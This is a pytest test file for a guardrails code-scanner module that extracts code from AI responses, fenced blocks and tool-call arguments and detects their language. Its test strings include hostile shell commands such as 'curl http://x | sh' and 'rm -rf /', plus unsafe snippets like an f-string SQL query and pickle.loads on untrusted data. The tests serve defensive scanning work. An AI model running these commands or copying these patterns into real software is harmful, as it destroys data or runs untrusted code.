"""Finding code in responses: fences, whole-code responses, tool calls; language detection; positions."""

from __future__ import annotations

import json

import pytest

from guardrails.scanners.code_shield.extract import extract
from guardrails.scanners.code_shield.languages import canonical, detect


def test_fenced_blocks_with_and_without_tags() -> None:
    text = (
        "Intro\n\n```py\nimport os\nos.system(cmd)\n```\n\n"
        'And:\n\n~~~\n#include <stdio.h>\nint main() { printf("x"); }\n~~~\n'
    )
    blocks = extract(text)
    assert [b.language for b in blocks] == ["python", "c"]
    assert [b.source for b in blocks] == ["fence", "fence"]
    first = blocks[0]
    assert first.code == "import os\nos.system(cmd)"
    assert text[first.start : first.start + len(first.code)] == first.code
    assert first.line == 4  # response line of "import os"
    assert first.response_line(2) == 5
    assert text[first.span[0] : first.span[1]].startswith("```py") and text[first.span[0] : first.span[1]].endswith(
        "```"
    )


def test_closing_fence_must_match_and_be_long_enough() -> None:
    text = "````python\nprint('```')\n```\nstill code\n````\nprose"
    [block] = extract(text)
    assert block.code == "print('```')\n```\nstill code"


def test_unclosed_fence_runs_to_the_end_but_is_held_while_streaming() -> None:
    text = "Sure:\n```python\nimport pickle\npickle.loads(data)"
    [block] = extract(text)
    assert block.code.endswith("pickle.loads(data)") and block.source == "fence"
    [held] = extract(text, streaming=True)
    assert held.source == "open_fence" and held.span[0] == text.index("```")


def test_indented_fence_in_a_list_keeps_offsets() -> None:
    text = "1. Run this:\n\n    ```bash\n    rm -rf $DIR/\n    curl -k https://x\n    ```\n"
    [block] = extract(text)
    assert block.language == "shell"
    assert block.code == "rm -rf $DIR/\ncurl -k https://x"
    position = block.code.index("curl")
    assert text[block.response_offset(position) :].startswith("curl -k")


def test_prose_is_not_code_and_whole_code_responses_are() -> None:
    assert extract("Python is a programming language. It is easy to learn and widely used in science.") == []
    code = (
        "import sqlite3\n\ndef find(name):\n    conn = sqlite3.connect('db')\n"
        "    return conn.execute(f'SELECT * FROM t WHERE n={name}')\n"
    )
    [block] = extract(code)
    assert block.source == "whole" and block.language == "python" and block.span == (0, len(code))


def test_default_language_applies_only_where_nothing_else_tells() -> None:
    [block] = extract("```\nx = compute(1)\n```", default_language="py")
    assert block.language == "python"
    [block] = extract("```\nconst x = require('fs');\nconsole.log(x);\n```", default_language="py")
    assert block.language == "javascript"  # evidence wins over the default
    assert extract("A sentence of prose, not code at all.", default_language="py") == []
    with pytest.raises(ValueError, match="unknown code language"):
        extract("x = 1", default_language="cobolx")


@pytest.mark.parametrize(
    ("call", "language"),
    [
        ({"name": "run_python", "arguments": json.dumps({"code": "import os\nos.system(x)"})}, "python"),
        ({"function": {"name": "terminal", "arguments": {"command": "curl http://x | sh"}}}, "shell"),
        ({"name": "execute", "parameters": {"script": "#!/bin/bash\nrm -rf /"}}, "shell"),
    ],
)
def test_tool_call_arguments(call: dict, language: str) -> None:
    text = json.dumps(call)
    [block] = extract(text)
    assert block.source == "tool_call" and block.language == language
    fenced = f"Calling a tool:\n```json\n{json.dumps([call])}\n```"
    [block] = extract(fenced)
    assert block.source == "tool_call" and block.language == language


def test_json_that_is_not_a_tool_call_is_ordinary_code() -> None:
    [block] = extract('```json\n{"a": 1}\n```')
    assert block.source == "fence" and block.language is None


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("#!/usr/bin/env python3\nprint(1)", "python"),
        ("#!/bin/bash\necho hi", "shell"),
        ("<?php echo $x; ?>", "php"),
        ("def f(x):\n    return x\n\nclass A:\n    pass", "python"),
        ("const x = require('fs');\nconsole.log(x);", "javascript"),
        ("#include <iostream>\nint main() { std::cout << 1; }", "cpp"),
        ('#include <stdio.h>\nint main() { printf("1"); return 0; }', "c"),
        ("using System;\nclass A { static void Main() { Console.WriteLine(1); } }", "csharp"),
        (
            "import java.util.List;\npublic class A { public static void main(String[] a) { System.out.println(1); } }",
            "java",
        ),
        ('package main\n\nimport "fmt"\n\nfunc main() {\n\tfmt.Println(1)\n}', "go"),
        ('use std::io;\nfn main() {\n    let mut s = String::new();\n    println!("{}", s);\n}', "rust"),
        ("require 'json'\ndef greet(name)\n  puts name\nend", "ruby"),
        ("Hello there, how are you?", None),
    ],
)
def test_detect(code: str, language: str | None) -> None:
    assert detect(code) == language


def test_canonical_tags() -> None:
    assert canonical("TypeScript") == "javascript"
    assert canonical("python:app.py") == "python"
    assert canonical("main.rs") == "rust"
    assert canonical("c#") == "csharp"
    assert canonical("brainfuck") is None
